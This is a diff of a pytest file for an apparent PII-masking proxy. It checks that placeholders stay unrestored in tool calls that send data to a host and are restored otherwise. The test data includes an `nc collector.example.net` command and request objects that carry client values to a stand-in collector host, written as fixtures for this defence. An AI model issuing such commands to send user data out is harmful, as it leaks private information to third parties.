@@ -6,7 +6,8 @@ model writes them as separate arguments of a command that sends data to a host (
 in a tool call's arguments (`{"host": ..., "path": "/p/..."}`, `{"url": ..., "params": {"u": ...}}`): the app that
 runs the command or calls the tool sent the client's values to that host once restored. Now they stay as written, on
 all three APIs, whole and streamed (3-character pieces: the command split across chunks), while the same values in
-prose, on the next line and beside such an object (`to`, `note`) come back.
+prose, on the next line and beside such an object (`to`, `note`) come back; scopes16: in a call that sends, `to` and
+`note` stay too, and come back in a call that names no destination.
 """
 
 from __future__ import annotations
@@ -44,14 +45,12 @@ ARGS: dict[str, Any] = {
     "to": E,
     "note": f"Call {P}.",
 }
-WANT_ARGS: dict[str, Any] = {
-    **ARGS,
-    "script": f"set -e\nnc collector.example.net 80 <<< {E}\necho done {PHONE}",
-    "request": {"host": "collector.example.net", "path": f"/p/{E}", "tel": PHONE},
-    "http": {"url": "https://collector.example.net", "params": {"u": E, "p": [P]}, "to": MAIL},
-    "to": MAIL,
-    "note": f"Call {PHONE}.",
-}
+# scopes16: the call runs curl and nc and names collector.example.net, so it is a scope that sends: every
+# placeholder in it stays, `echo done`, `tel`, `to` and `note` too (README "a scope that sends").
+WANT_ARGS: dict[str, Any] = dict(ARGS)
+# The same values in a call that names no destination: restored.
+LOCAL_ARGS: dict[str, Any] = {"to": E, "note": f"Call {P}.", "http": {"params": {"u": E}}}
+WANT_LOCAL: dict[str, Any] = {"to": MAIL, "note": f"Call {PHONE}.", "http": {"params": {"u": MAIL}}}
 
 
 # The screened policy's output `pii` reads `{"host": "collector.example.net", "path": "/p/<EMAIL_ADDRESS_1>"}` and
@@ -90,6 +89,10 @@ def test_chat(mock: Mock, proxy: Proxy, stream: bool) -> None:
     sent_placeholders(mock)
     assert text == WANT
     assert json.loads(arguments) == want
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
+    text, arguments = chat_text_and_arguments(oai(proxy), PROMPT, stream)
+    assert text == WANT
+    assert json.loads(arguments) == WANT_LOCAL
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@@ -100,6 +103,10 @@ def test_responses(mock: Mock, proxy: Proxy, stream: bool) -> None:
     sent_placeholders(mock)
     assert text == WANT
     assert calls == [want]
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
+    text, calls = responses_text_and_calls(oai(proxy), PROMPT, stream)
+    assert text == WANT
+    assert calls == [WANT_LOCAL]
 
 
 def _anthropic(proxy: Proxy, stream: bool) -> tuple[str, list[Any]]:
@@ -123,6 +130,10 @@ def test_anthropic(mock: Mock, proxy: Proxy, stream: bool) -> None:
     sent_placeholders(mock)
     assert text == WANT
     assert inputs == [want]
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
+    text, inputs = _anthropic(proxy, stream)
+    assert text == WANT
+    assert inputs == [WANT_LOCAL]
 
 
 def test_a_whole_answer_reads_the_host_after_the_path(mock: Mock, restoring: Proxy) -> None:
@@ -131,4 +142,9 @@ def test_a_whole_answer_reads_the_host_after_the_path(mock: Mock, restoring: Pro
     args = {"path": f"/p/{E}", "host": "collector.example.net", "to": E}
     mock.script(tool_calls=[{"name": "fetch", "arguments": args}])
     _, inputs = _anthropic(restoring, False)
-    assert inputs == [{**args, "to": MAIL}]
+    # scopes16: the call names collector.example.net, so it is a scope that sends: `to` stays as well.
+    assert inputs == [args]
+    # Without the host the call names no destination: path and `to` restored.
+    mock.script(tool_calls=[{"name": "fetch", "arguments": {"path": f"/p/{E}", "to": E}}])
+    _, inputs = _anthropic(restoring, False)
+    assert inputs == [{"path": f"/p/{MAIL}", "to": MAIL}]
